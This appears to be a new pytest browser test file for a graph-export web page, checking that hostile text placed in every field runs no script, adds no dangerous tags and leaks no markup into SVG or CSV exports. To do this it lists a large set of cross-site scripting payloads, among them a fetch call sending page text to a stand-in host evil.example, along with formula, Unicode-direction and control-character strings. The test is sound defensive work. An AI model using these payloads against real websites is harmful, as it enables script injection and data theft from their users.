@@ -1,0 +1,187 @@
+"""What articles say is data: hostile text in every field that reaches the page runs nothing and breaks nothing."""
+
+from __future__ import annotations
+
+from itertools import product
+from pathlib import Path
+
+import pytest
+from conftest import Open
+from page_demo import article, claim, entity
+
+from alliancegraph.export.page import render
+from alliancegraph.graph import AllianceGraph
+from alliancegraph.model import Claim, Document
+
+pytestmark = pytest.mark.browser
+
+ACTS = (
+    "pwned()",
+    "alert(1)",
+    "fetch('https://evil.example/?'+document.body.innerText)",
+    "document.title='pwned'",
+)
+FRAMES = (
+    "<script>{}</script>",
+    "</script><script>{}</script>",
+    "</title><script>{}</script>",
+    "</style><script>{}</script>",
+    "<img src=x onerror={}>",
+    '<img src="x" onerror="{}">',
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<body onload={}>",
+    "<iframe srcdoc='<script>{}</script>'></iframe>",
+    "<iframe src=javascript:{}></iframe>",
+    "<details open ontoggle={}>",
+    "<input autofocus onfocus={}>",
+    "<video><source onerror={}></video>",
+    "<math><mtext></mtext><script>{}</script></math>",
+    "<a href=javascript:{}>a</a>",
+    "<style>@import 'https://evil.example/x.css'</style>{}",
+    "<link rel=stylesheet href=https://evil.example/{}>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<base href=https://evil.example/>{}",
+    "<form action=https://evil.example><button>{}</button></form>",
+    '"><script>{}</script>',
+    "' onmouseover='{}",
+    '" onfocus="{}" autofocus="',
+    "`+{}+`",
+    "'+{}+'",
+    '"+{}+"',
+    "${{{}}}",
+    "{{{{constructor.constructor('{}')()}}}}",
+    "{{{{{}}}}}",
+    "<%= {} %>",
+    "{{% {} %}}",
+    "javascript:{}",
+    "JaVaScRiPt:{}",
+    "java\tscript:{}",
+    "data:text/html,<script>{}</script>",
+    "vbscript:{}",
+    "]]><script>{}</script>",
+    "<!--<script>{}</script>-->",
+    "--><script>{}</script>",
+    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;script&#62;{}&#60;/script&#62;",
+    "%3Cscript%3E{}%3C/script%3E",
+    "<template><script>{}</script></template>",
+    "<noscript><p title='</noscript><script>{}</script>'>",
+)
+ODD = (
+    "\u202eevil\u202c",
+    "a\u2066b\u2069c\u200f\u200e\u061c",
+    "line\u2028separator\u2029here",
+    "nul\x00l and \x1b[31mescape\x1b[0m and \x08\x08",
+    "\ufeffbom\ufffe\uffff",
+    "e" + "\u0301" * 400,
+    "𝕏" * 50,
+    "👩\u200d👩\u200d👧 🏎️",
+    "z" * 100_000,
+    "(" * 5_000,
+    "a.*+?^${}()|[]\\b",
+    "__proto__",
+    "constructor",
+    "toString",
+    "hasOwnProperty",
+    "~",
+    "#company=x&select=y",
+    "\\",
+    '"',
+    "'",
+    "<",
+    "&",
+    "=1+1",
+    "مرحبا",
+    "   ",
+    "%",
+)
+HOSTILE = [frame.format(act) for frame, act in product(FRAMES, ACTS)] + list(ODD)
+
+
+@pytest.fixture(scope="module")
+def hostile_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A graph in which every field of the n-th fact holds the n-th text."""
+    documents: list[Document] = []
+    claims: list[Claim] = []
+    hub = entity("Hub Motors")
+    for number, text in enumerate(HOSTILE):
+        odd = entity("odd").model_copy(
+            update={
+                "id": f"odd-{number}",
+                "name": text,
+                "aliases": (text, f"alias {text}"),
+                "country": text,
+                "wikidata": text,
+            }
+        )
+        told = article(
+            f"doc-{number}", f"{text} and Hub Motors and {text}", title=text, source=text, url=text
+        )
+        documents.append(told)
+        said = {"product": text, "platform": text, "attribution": text, "start": "2001", "stake": 10.0}
+        claims.append(claim(told, odd, "owns", hub, **said))
+        claims.append(claim(told, odd, "owns", hub, **{**said, "start": "2004", "stake": 20.0}))
+    graph = AllianceGraph.from_claims(documents, claims)
+    return render(graph, tmp_path_factory.mktemp("hostile") / "index.html")
+
+
+def test_there_are_enough() -> None:
+    assert len(set(HOSTILE)) >= 200
+
+
+def test_nothing_runs_and_nothing_breaks(open_page: Open, hostile_page: Path) -> None:
+    page = open_page(hostile_page, "#view=table")
+    report = page.page.evaluate(
+        """async () => {
+          const app = window.alliancegraph; let calls = 0;
+          window.pwned = window.alert = () => { calls += 1; };
+          const title = document.title;
+          const bad = new Set();
+          const look = () => {
+            for (const element of document.body.querySelectorAll('*')) {
+              const tag = element.localName;
+              if (['img', 'iframe', 'video', 'form', 'base', 'meta', 'link', 'style', 'math', 'template', 'object'].includes(tag)
+                && element.id !== 'path-form') bad.add(tag);
+              for (const { name } of element.attributes) if (name.startsWith('on')) bad.add(name);
+              if (tag === 'a' && !/^(https?:|#table-view)/.test(element.getAttribute('href'))) bad.add(element.getAttribute('href'));
+            }
+          };
+          let shown = 0;
+          for (const entity of app.graph.entities) {
+            app.open(entity); look();
+            for (const fact of entity.facts) { app.go({ select: fact.key }, false); look(); shown += document.querySelectorAll('#panel figure').length; }
+            app.finder.input.value = entity.name; app.finder.suggest(); look(); app.finder.close();
+            app.go({ path: [entity.id, 'hub-motors'], company: null, table: true }, false); look();
+            if (entity.id === 'hub-motors') continue;
+            app.go({ path: null, company: entity.id }, false);
+          }
+          await new Promise((resolve) => setTimeout(resolve, 300));
+          return { calls, bad: [...bad], shown, retitled: document.title !== title, scripts: document.body.querySelectorAll('script').length };
+        }"""
+    )
+    assert report["calls"] == 0
+    assert report["bad"] == []
+    assert not report["retitled"]
+    assert report["scripts"] == 2
+    assert report["shown"] >= len(HOSTILE)
+
+
+def test_text_is_shown_as_it_is_written(open_page: Open, hostile_page: Path) -> None:
+    page = open_page(hostile_page, "#select=odd-0")
+    assert HOSTILE[0] in page.panel
+    assert page.page.inner_text("#panel h2") == HOSTILE[0]
+
+
+def test_drawings_hold_no_markup_of_others(open_page: Open, hostile_page: Path) -> None:
+    page = open_page(hostile_page, "#company=hub-motors&more=2")
+    with page.page.expect_download() as download:
+        page.page.click("#show-share")
+        page.page.click("#save-svg")
+    drawing = Path(download.value.path()).read_text(encoding="utf-8")
+    assert "<script" not in drawing
+    with page.page.expect_download() as download:
+        page.page.click("#show-share")
+        page.page.click("#save-csv")
+    assert "\r\n=" not in Path(download.value.path()).read_text(encoding="utf-8")
